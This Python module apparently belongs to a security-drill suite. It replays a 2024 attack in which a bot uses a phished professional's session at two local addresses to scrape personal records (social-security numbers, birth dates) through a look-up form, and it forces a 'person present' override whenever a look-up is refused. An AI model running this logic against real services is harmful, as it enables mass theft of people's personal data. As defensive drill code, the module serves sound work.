"""2024: one phished professional, and a bot that reads display pages from two addresses over a weekend.

It signs in as its victim would, with password and code, once at each address: a session is worth nothing
where it was not proved. Then it fills in the look-up form for person after person. Refused, or asked for a
card that it has not got, it presses the button "person present", and goes on.
"""

import asyncio
from collections.abc import Sequence
from itertools import cycle

from rempart.drills.browser import LOOK_UP, Browser, hidden, reference_of
from rempart.drills.clock import Clock
from rempart.drills.replay_2022 import PRESENT
from rempart.drills.tally import Person, Tally
from rempart.drills.wire import Answer, LostError, Wire

HISTORY = 33_000_000
"""Persons in the base that was reached, as reported in 2024."""
ADDRESSES = ("127.0.0.41", "127.0.0.42")
_ASKS_FOR_RANK = b'name="birth_rank" value="1"'
_SIGNED_OUT = frozenset({302, 401})
_MOVES_ON = frozenset({403, 422})


async def replay(
    browsers: Sequence[Browser],
    login: str,
    persons: Sequence[Person],
    clock: Clock,
    pace: float | None = None,
) -> Tally:
    """Run the attack with a browser signed in at each address. `pace`: look-ups a second and address."""
    tally = Tally()
    count = len(ADDRESSES)
    readers = [
        _Reader(browser, login, persons[n::count], Wire(browser.pages, source), tally)
        for n, (browser, source) in enumerate(zip(browsers, ADDRESSES, strict=True))
    ]
    await asyncio.gather(*(reader.run(clock, pace) for reader in readers))
    return tally


class _Reader:
    """The bot at one of its addresses."""

    def __init__(
        self, browser: Browser, login: str, share: Sequence[Person], wire: Wire, tally: Tally
    ) -> None:
        self._browser = browser
        self._login = login
        self._share = share
        self._wire = wire
        self._tally = tally
        self._fields: dict[str, str] = {}

    async def run(self, clock: Clock, pace: float | None) -> None:
        """Read until the time is up, the list is (when paced), or the session is ended."""
        try:
            for person in self._share if pace else cycle(self._share):
                if not await self._insist(person, clock, pace):
                    return
        finally:
            await self._wire.close()

    async def _insist(self, person: Person, clock: Clock, pace: float | None) -> bool:
        """Ask about one person until the page says all it will. False: time is up, or signed out."""
        while clock.goes_on(self._tally):
            began = clock.now()
            done = await self._ask(person, clock, present=False)
            if done is False:
                done = await self._ask(person, clock, present=True)
            if pace:
                await asyncio.sleep(max(0.0, began + 1 / pace - clock.now()))
            if done is None:
                return False
            if done:
                return True
        return False

    async def _ask(self, person: Person, clock: Clock, *, present: bool) -> bool | None:
        """One form sent. True: nothing more to learn of this person; None: the session has ended."""
        fields = {
            "nir": person.nir,
            "birth_date": person.birth_date,
            "birth_rank": str(person.birth_rank or ""),
        }
        if present:
            fields |= {"present": PRESENT["reason"], "as_present": "on"}
        self._tally.lookups += 1
        try:
            token = await self._form()
            answer = await self._browser.post(self._wire, LOOK_UP, fields | token, fragment=True)
        except LostError:
            self._tally.lost += 1
            return False
        return self._note(answer, person, clock.now(), present=present)

    async def _form(self) -> dict[str, str]:
        """The form's own proof that it came from the page; one page is good for many forms."""
        if not self._fields:
            page = await self._browser.get(self._wire, LOOK_UP)
            self._fields = {
                name: value
                for name, value in hidden(page.body, "nir").items()
                if name == "csrfmiddlewaretoken"
            }
        return self._fields

    def _note(self, answer: Answer, person: Person, now: float, *, present: bool) -> bool | None:
        if answer.status in _SIGNED_OUT:
            self._tally.refusals["signed_out"] += 1
            return None
        reference = reference_of(answer.body)
        if reference is not None:
            self._tally.received(self._login, person, reference, "present" if present else "none", now)
            return True
        self._tally.refusals[f"page_{answer.status}"] += 1
        return answer.status in _MOVES_ON or _ASKS_FOR_RANK in answer.body
